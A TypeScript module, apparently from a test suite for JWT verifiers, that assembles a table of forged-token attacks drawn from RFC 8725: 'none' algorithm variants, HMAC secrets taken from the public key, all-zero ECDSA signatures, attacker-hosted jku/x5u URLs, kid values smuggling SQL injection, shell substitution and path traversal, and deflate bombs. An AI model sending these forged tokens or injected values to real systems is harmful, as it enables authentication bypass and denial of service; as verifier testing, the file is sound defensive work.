import { deflateRawSync } from "node:zlib";
import { attack, header, type TokenAttack } from "./attack.js";
import { CLAIM_ATTACKS, TEXT_ATTACKS } from "./claim_attacks.js";
import { base64url, hmac, type Sign, seal, type TokenForge } from "./token_forge.js";

/** Where the attacker would like keys to be fetched from. */
export interface AttackersSite {
  readonly origin: string;
}

/** "none" in every mix of large and small letters, and what some readers take for it. */
const NONE: readonly string[] = [
  ...Array.from({ length: 16 }, (_, mask) =>
    [..."none"].map((letter, at) => (mask & (1 << at) ? letter.toUpperCase() : letter)).join(""),
  ),
  "",
  " none",
  "none ",
  "none\0",
  "n\u043ene",
  "\uff4e\uff4f\uff4e\uff45",
  "null",
  "undefined",
];

const nothing: Sign = () => Buffer.alloc(0);
const pem = ({ publicKey }: TokenForge): string =>
  publicKey.export({ type: "spki", format: "pem" }).toString();
const jwk = ({ publicKey }: TokenForge): object => publicKey.export({ format: "jwk" });
const evilJwk = ({ attackersKey }: TokenForge): object => attackersKey.export({ format: "jwk" });

/** RFC 8725, sections 2.1 and 3.1: the algorithm is the server's to choose. */
const ALGORITHMS: readonly TokenAttack[] = [
  ...NONE.flatMap((alg) => [
    attack(`algorithm "${alg}" without a signature`, (forge) =>
      seal({ ...forge.header, alg }, forge.claims, nothing),
    ),
    attack(`algorithm "${alg}" with a signature`, (forge) =>
      seal({ ...forge.header, alg }, forge.claims, forge.sign),
    ),
  ]),
  ...(["256", "384", "512"] as const).flatMap((size) =>
    (
      [
        ["the public key in PEM", pem],
        ["the public key in PEM without its last line feed", (forge) => pem(forge).trimEnd()],
        [
          "the public key in DER",
          (forge) => forge.publicKey.export({ type: "spki", format: "der" }),
        ],
        ["the public key as JWK", (forge) => JSON.stringify(jwk(forge))],
        ["the key id", ({ header: { kid } }) => String(kid)],
        ["nothing", () => ""],
        ["a word of every list", () => "secret"],
      ] satisfies [string, (forge: TokenForge) => string | Uint8Array][]
    ).map(([name, secretOf]) =>
      attack(`HS${size} with ${name} as the secret`, (forge) =>
        seal(
          { ...forge.header, alg: `HS${size}` },
          forge.claims,
          hmac(`sha${size}`, secretOf(forge)),
        ),
      ),
    ),
  ),
  ...[
    "RS384",
    "RS512",
    "PS256",
    "ES384",
    "ES512",
    "ES256K",
    "Ed25519",
    "Ed448",
    "RSA1_5",
    "dir",
  ].map((alg) => header(`algorithm ${alg}`, () => ({ alg }))),
  header("algorithm in a list", ({ header: { alg } }) => ({ alg: [alg] })),
  header("no algorithm", () => ({ alg: undefined })),
  ...[null, false, 0, {}].map((alg) =>
    attack(`algorithm ${JSON.stringify(alg)} without a signature`, (forge) =>
      seal({ ...forge.header, alg }, forge.claims, nothing),
    ),
  ),
  header("algorithm in small letters", ({ header: { alg } }) => ({
    alg: String(alg).toLowerCase(),
  })),
  header("algorithm and a space", ({ header: { alg } }) => ({ alg: `${String(alg)} ` })),
  header("algorithm under another spelling too", () => ({ Alg: "none", ALG: "none" })),
];

/** CVE-2022-21449 and its kin: signatures that fit everything where they are not looked at. */
const SIGNATURES: readonly TokenAttack[] = [
  ["of zeros", () => Buffer.alloc(64)],
  ["of the point of order one", () => Buffer.concat([Buffer.from([1]), Buffer.alloc(63)])],
  ["of ones", () => Buffer.alloc(64, 0xff)],
  ["of 256 zeros", () => Buffer.alloc(256)],
  ["of one byte", () => Buffer.alloc(1)],
].map(([name, signature]) =>
  attack(`a signature ${String(name)}`, ({ header: head, claims }) =>
    seal(head, claims, signature as Sign),
  ),
);

/** RFC 8725, sections 2.9 and 3.10: a token's own data about keys is not trusted. */
export const keyAttacks = ({ origin }: AttackersSite): readonly TokenAttack[] => [
  ...(
    [
      ["jwk", (forge) => evilJwk(forge)],
      ["jku", () => `${origin}/jwks.json`],
      ["x5u", () => `${origin}/chain.pem`],
      ["x5c", () => ["MIIBszCCAVmgAwIBAgIUEzz"]],
      ["x5t", () => "dGh1bWI"],
      ["x5t#S256", () => "dGh1bWI"],
    ] satisfies [string, (forge: TokenForge) => unknown][]
  ).flatMap(([name, value]) => [
    attack(`${name} of the attacker's key, signed by it`, (forge) =>
      seal({ ...forge.header, [name]: value(forge) }, forge.claims, forge.signBadly),
    ),
    header(`${name} beside a good signature`, (forge) => ({ [name]: value(forge) })),
    attack(`${name} instead of a kid`, (forge) =>
      seal(
        { ...forge.header, kid: undefined, [name]: value(forge) },
        forge.claims,
        forge.signBadly,
      ),
    ),
  ]),
  attack("another key under the same kid", (forge) =>
    seal(forge.header, forge.claims, forge.signBadly),
  ),
  ...[
    "../../../../dev/null",
    "/dev/null",
    "file:///dev/null",
    `${origin}/key.pem`,
    "x' UNION SELECT 'secret' --",
    "x'; DROP TABLE keys; --",
    "| sleep 10",
    "$(sleep 10)",
    "__proto__",
    "constructor",
    "toString",
    "*",
    "%00",
    "",
    "k".repeat(4000),
  ].flatMap((kid) => [
    attack(`kid ${JSON.stringify(kid.slice(0, 40))} with an empty HMAC secret`, (forge) =>
      seal({ ...forge.header, alg: "HS256", kid }, forge.claims, hmac("sha256", "")),
    ),
    header(`kid ${JSON.stringify(kid.slice(0, 40))}`, () => ({ kid })),
  ]),
  header("kid with a NUL", ({ header: { kid } }) => ({ kid: `${String(kid)}\0` })),
  header("kid a number", () => ({ kid: 0 })),
  header("kid an object", ({ header: { kid } }) => ({ kid: { kid } })),
];

/** RFC 7515, section 4.1.11; RFC 7797; RFC 8725, sections 2.4, 2.8 and 3.11. */
const HEADERS: readonly TokenAttack[] = [
  header("crit of a claim", () => ({ crit: ["exp"], exp: 4_102_444_800 })),
  header("crit of nobody's extension", () => ({ crit: ["https://example.com/x"] })),
  header("crit empty", () => ({ crit: [] })),
  header("crit null", () => ({ crit: null })),
  header("crit of alg", () => ({ crit: ["alg"] })),
  header("b64 true", () => ({ b64: true, crit: ["b64"] })),
  header("b64 false over an encoded payload", () => ({ b64: false, crit: ["b64"] })),
  attack("header: b64 false over a payload in clear", (forge) => {
    const input = `${base64url({ ...forge.header, b64: false, crit: ["b64"] })}.${JSON.stringify(forge.claims)}`;
    return `${input}.${forge.sign(input).toString("base64url")}`;
  }),
  ...[
    "JWT",
    "jwt",
    "AT+JWT",
    "at+JWT",
    "application/at+jwt",
    "id_token",
    "logout+jwt",
    "dpop+jwt",
    "",
  ].map((typ) => header(`typ "${typ}"`, () => ({ typ }))),
  header("no typ", () => ({ typ: undefined })),
  ...[null, ["at+jwt"], "at+jwt ", "at+jwt; charset=utf-8", "at+jwt\0", "JWE", "secevent+jwt"].map(
    (typ) => header(`typ ${JSON.stringify(typ)}`, () => ({ typ })),
  ),
  header("cty JWT", () => ({ cty: "JWT" })),
  header("zip DEF", () => ({ zip: "DEF" })),
  attack("header: zip DEF over a bomb", (forge) =>
    seal({ ...forge.header, zip: "DEF" }, deflateRawSync(Buffer.alloc(1_000_000)), forge.sign),
  ),
  header("enc", () => ({ enc: "A256GCM" })),
  header("p2c, a billion rounds of PBKDF2", () => ({
    alg: "PBES2-HS256+A128KW",
    p2c: 1e9,
    p2s: "AA",
  })),
  header("an unknown member", () => ({ hint: 1 })),
];

/** RFC 8725, sections 2.8 and 3.12: other things that are signed, or look so. */
const OTHER_FORMS: readonly TokenAttack[] = [
  attack("a token without its payload (detached, RFC 7515, appendix F)", ({ token }) =>
    token.replace(/\..*\./, ".."),
  ),
  attack("JWS in JSON, flattened", ({ token }) => {
    const [head, payload, signature] = token.split(".");
    return JSON.stringify({ protected: head, payload, signature });
  }),
  attack("JWS in JSON, general", ({ token }) => {
    const [head, payload, signature] = token.split(".");
    return JSON.stringify({ payload, signatures: [{ protected: head, signature }] });
  }),
  attack("JWE of five parts", ({ token }) => `${token}.AAAA.AAAA`),
  attack("a token in a token", (forge) => seal(forge.header, forge.token, forge.sign)),
  attack("a payload of one token under the signature of another", (forge) => {
    const [head, , signature] = forge.token.split(".");
    return `${head}.${base64url({ ...forge.claims, roles: ["root"] })}.${signature}`;
  }),
  attack("PASETO", () => "v4.public.eyJkYXRhIjoidGhpcyBpcyBhIHNpZ25lZCBtZXNzYWdlIn0"),
  attack("a SAML assertion", () => Buffer.from("<saml:Assertion/>").toString("base64")),
  attack("8 KiB and more, properly signed", (forge) =>
    seal(forge.header, { ...forge.claims, padding: "x".repeat(8192) }, forge.sign),
  ),
  attack("a megabyte of base64url", () => "A".repeat(1_000_000)),
  attack("a hundred thousand dots", () => ".".repeat(100_000)),
];

/** The table of attacks: from RFC 8725, the JOSE RFCs' own warnings, and the public lists of JWT defects. */
export const tokenAttacks = (site: AttackersSite): readonly TokenAttack[] => [
  ...ALGORITHMS,
  ...SIGNATURES,
  ...keyAttacks(site),
  ...HEADERS,
  ...CLAIM_ATTACKS,
  ...TEXT_ATTACKS,
  ...OTHER_FORMS,
];
